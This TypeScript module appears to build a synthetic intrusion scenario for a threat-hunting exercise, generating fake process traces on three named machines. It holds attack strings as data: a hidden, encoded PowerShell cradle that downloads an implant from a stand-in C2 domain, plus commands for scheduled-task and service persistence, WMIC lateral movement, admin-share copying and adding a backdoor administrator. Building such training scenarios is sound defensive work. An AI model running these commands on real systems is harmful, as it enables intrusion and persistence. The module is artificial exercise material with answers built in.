import { COLLECTED_AT, DAY, DOMAIN, DOMAIN_SID, type Machine, named } from './fleet.ts'
import { type Binary, SYSTEM } from './row.ts'

/** The one intrusion in the fleet. Everything it left is built from these facts; SPOILER for whoever wants to hunt. */
export const PATIENT = named('WS-FIN-011')
export const COLLEAGUE = named('LT-FIN-002')
export const FILE_SERVER = named('SRV-FILE-02')

const BEGIN = COLLECTED_AT - 3 * DAY - 18 * 60_000 // 08:42 three days before the hunt
const minutes = (n: number) => BEGIN + n * 60_000
export const HOUR = 60

export const C2 = { domain: 'sync.gfx-telemetry.example', address: '203.0.113.77', port: 443 }
export const LURE = 'C:\\Users\\k.lindqvist\\Downloads\\Invoice_4471_overdue.docm'
const FOLDER = 'C:\\ProgramData\\Intel\\GfxSync'
/** A tool under the name of a graphics service; it loads the DLL beside it. */
export const IMPLANT: Binary = {
  path: `${FOLDER}\\igfxsyncsvc.exe`,
  product: 'OleView',
  version: '6.3.9600',
  company: 'Intel Corporation',
  signer: null,
}
export const SIDE_LOADED = `${FOLDER}\\aclui.dll`
export const TASK = '\\Microsoft\\Windows\\Display\\GfxSync'
export const RUN_VALUE = 'IntelGfxSync'
export const SERVICE = 'DisplaySyncSvc'
export const NEW_ADMIN = 'svc-display'
export const SCRIPT = `$u='https://${C2.domain}/p/4471';$d='${FOLDER}';md $d -Force|Out-Null;'igfxsyncsvc.exe','aclui.dll'|%{(New-Object Net.WebClient).DownloadFile("$u/$_","$d\\$_")};Start-Process "$d\\igfxsyncsvc.exe"`
export const ENCODED = Buffer.from(SCRIPT, 'utf16le').toString('base64')

export type Mark = { at: number; parent: string; user: string; commandLine: string; image: string }
/** What the intruder left on one machine. */
export type Marks = {
  implantStartedAt: number
  implantUser: string
  /** Persists by a Run value and a task (people's machines) or by a service. */
  persistsBy: 'run and task' | 'service'
  processes: Mark[]
}

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const user = ({ login }: Machine) => `${DOMAIN}\\${login}`
const run = (at: number, who: string, parent: string, image: string, commandLine: string): Mark => ({
  at: minutes(at),
  user: who,
  parent,
  image,
  commandLine,
})

export const ENCODED_COMMAND = `powershell.exe -nop -w hidden -ep bypass -enc ${ENCODED}`
const CREATE_TASK = `schtasks.exe /create /f /sc hourly /tn "${TASK}" /tr "${IMPLANT.path}" /rl highest`
const INSTALL = `sc.exe \\\\${FILE_SERVER.hostname} create ${SERVICE} binPath= "${IMPLANT.path} -s" start= auto`
const COPY = `cmd.exe /c xcopy /y ${FOLDER} \\\\${FILE_SERVER.hostname}\\C$\\ProgramData\\Intel\\GfxSync\\`
const SPREAD = `wmic.exe /node:${COLLEAGUE.hostname} process call create "${IMPLANT.path}"`
const ADD_USER = `net.exe user ${NEW_ADMIN} /add /active:yes`
const ADD_ADMIN = `net.exe localgroup Administrators ${NEW_ADMIN} /add`

const MARKS = new Map<string, Marks>([
  [
    PATIENT.hostname,
    {
      implantStartedAt: minutes(1),
      implantUser: user(PATIENT),
      persistsBy: 'run and task',
      processes: [
        run(
          0,
          user(PATIENT),
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
          WORD,
          `"${WORD}" /n "${LURE}"`,
        ),
        run(0.4, user(PATIENT), WORD, POWERSHELL, ENCODED_COMMAND),
        run(1, user(PATIENT), POWERSHELL, IMPLANT.path, `"${IMPLANT.path}"`),
        run(6, user(PATIENT), IMPLANT.path, 'C:\\Windows\\System32\\schtasks.exe', CREATE_TASK),
        run(31, user(PATIENT), IMPLANT.path, 'C:\\Windows\\System32\\wbem\\WMIC.exe', SPREAD),
        run(26 * HOUR, user(PATIENT), IMPLANT.path, 'C:\\Windows\\System32\\cmd.exe', COPY),
        run(26 * HOUR + 2, user(PATIENT), IMPLANT.path, 'C:\\Windows\\System32\\sc.exe', INSTALL),
      ],
    },
  ],
  [
    COLLEAGUE.hostname,
    {
      implantStartedAt: minutes(31.2),
      implantUser: user(COLLEAGUE),
      persistsBy: 'run and task',
      processes: [
        run(31.2, user(COLLEAGUE), 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', IMPLANT.path, `"${IMPLANT.path}"`),
        run(36, user(COLLEAGUE), IMPLANT.path, 'C:\\Windows\\System32\\schtasks.exe', CREATE_TASK),
      ],
    },
  ],
  [
    FILE_SERVER.hostname,
    {
      implantStartedAt: minutes(26 * HOUR + 3),
      implantUser: SYSTEM,
      persistsBy: 'service',
      processes: [
        run(26 * HOUR + 3, SYSTEM, 'C:\\Windows\\System32\\services.exe', IMPLANT.path, `${IMPLANT.path} -s`),
        run(26 * HOUR + 9, SYSTEM, IMPLANT.path, 'C:\\Windows\\System32\\net.exe', ADD_USER),
        run(26 * HOUR + 10, SYSTEM, IMPLANT.path, 'C:\\Windows\\System32\\net.exe', ADD_ADMIN),
      ],
    },
  ],
])

/** What the intruder left on this machine, if it was there. */
export const marksOn = ({ hostname }: Machine): Marks | undefined => MARKS.get(hostname)

export const NEW_ADMIN_SID = `${DOMAIN_SID.replace('1004336348', '2891029512')}-1009`
export const STOLEN_LOGON_AT = minutes(26 * HOUR)
export const SERVICE_INSTALLED_AT = minutes(26 * HOUR + 2.9)
export const ADMIN_ADDED_AT = minutes(26 * HOUR + 9.1)
